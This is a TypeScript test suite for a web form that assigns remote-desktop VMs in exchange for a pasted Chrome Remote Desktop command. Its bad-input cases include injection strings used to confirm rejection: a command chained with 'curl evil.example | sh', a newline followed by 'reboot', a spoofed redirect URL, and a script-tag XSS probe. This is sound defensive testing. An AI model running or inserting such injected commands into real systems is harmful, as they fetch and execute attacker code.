import { recordPoll } from '../../core/vms';
import { crdCommand, fakeCode } from '../support/fixtures';
import { TestStack, freeCount, startTestStack, submitForm } from '../support/stack';

describe('the participant form over HTTP', () => {
  let env: TestStack;
  beforeAll(async () => {
    env = await startTestStack();
  });
  afterAll(async () => env?.close());
  beforeEach(async () => {
    await env.db.pool.query('DELETE FROM vms');
  });

  it('serves the form with the steps, the Google link and the free count', async () => {
    await recordPoll(env.db.sql, 'form-vm-1', 60);
    const response = await fetch(`${env.url}/`);
    expect(response.status).toBe(200);
    const page = await response.text();
    expect(page).toContain('href="https://remotedesktop.google.com/headless"');
    expect(page).toContain('1 VM free right now');
    expect(page).toMatch(/<label for="crd_command">/);
  });

  it('says plainly on the form when no VM is free', async () => {
    const page = await (await fetch(`${env.url}/`)).text();
    expect(page).toContain('No VM is free right now');
  });

  it('answers JSON clients with hostname and PIN, and the count drops', async () => {
    await recordPoll(env.db.sql, 'form-vm-2', 60);
    expect(await freeCount(env.url)).toBe(1);
    const response = await submitForm(env.url, { email: 'json@example.com', crd_command: crdCommand() });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ hostname: 'form-vm-2', pin: expect.stringMatching(/^\d{6}$/) });
    expect(await freeCount(env.url)).toBe(0);
  });

  it('answers 503 with what to do when no VM is free, and stores nothing', async () => {
    const response = await submitForm(env.url, { email: 'late@example.com', crd_command: crdCommand() }, 'text/html');
    expect(response.status).toBe(503);
    const page = await response.text();
    expect(page).toContain('No VM is free right now. Please ask your instructor');
    expect(page).toContain('value="late@example.com"');
    expect(await env.db.dumpVms()).toEqual([]);
  });

  const badInputs: [string, Record<string, string>, RegExp][] = [
    ['a missing --code', { email: 'a@example.com', crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --redirect-url="https://remotedesktop.google.com/_/oauthredirect"' }, /no --code/],
    ['a wrong redirect URL', { email: 'a@example.com', crd_command: crdCommand().replace('remotedesktop.google.com', 'remotedesktop.evil.example') }, /redirect-url must be Google's/],
    ['shell metacharacters', { email: 'a@example.com', crd_command: `${crdCommand()} && curl evil.example | sh` }, /contains "&&"/],
    ['a newline', { email: 'a@example.com', crd_command: `${crdCommand()}\nreboot` }, /line break/],
    ['over-long input', { email: 'a@example.com', crd_command: `${crdCommand()}${'x'.repeat(2100)}` }, /longer than 2048/],
    ['a bad email', { email: 'a@example', crd_command: crdCommand() }, /not a valid email/],
    ['a missing email', { crd_command: crdCommand() }, /Enter your email/],
  ];

  it.each(badInputs)('rejects %s with a clear 400 and changes nothing', async (_case, fields, message) => {
    await recordPoll(env.db.sql, 'form-vm-3', 60);
    const before = await env.db.dumpVms();
    const response = await submitForm(env.url, fields);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
    expect(await env.db.dumpVms()).toEqual(before);
  });

  it('shows the message next to the field in the page and keeps what was typed', async () => {
    const response = await submitForm(env.url, { email: 'keep@example.com', crd_command: fakeCode() }, 'text/html');
    expect(response.status).toBe(400);
    const page = await response.text();
    expect(page).toContain('id="crd_command-error"');
    expect(page).toContain('code alone');
    expect(page).toContain('value="keep@example.com"');
  });

  it('escapes what was typed when it shows it back', async () => {
    const response = await submitForm(env.url, { email: '"><script>alert(1)</script>', crd_command: crdCommand() }, 'text/html');
    expect(response.status).toBe(400);
    const page = await response.text();
    expect(page).not.toContain('<script>alert(1)</script>');
    expect(page).toContain('&lt;script&gt;');
  });

  it('refuses a body that is not a form with 415, and an oversized one with 413', async () => {
    const plain = await fetch(`${env.url}/api/request_vm`, { method: 'POST', headers: { 'content-type': 'text/plain', accept: 'application/json' }, body: 'email=a@example.com' });
    expect(plain.status).toBe(415);
    const huge = await submitForm(env.url, { email: 'a@example.com', crd_command: 'x'.repeat(20_000) });
    expect(huge.status).toBe(413);
    expect(await env.db.dumpVms()).toEqual([]);
  });
});
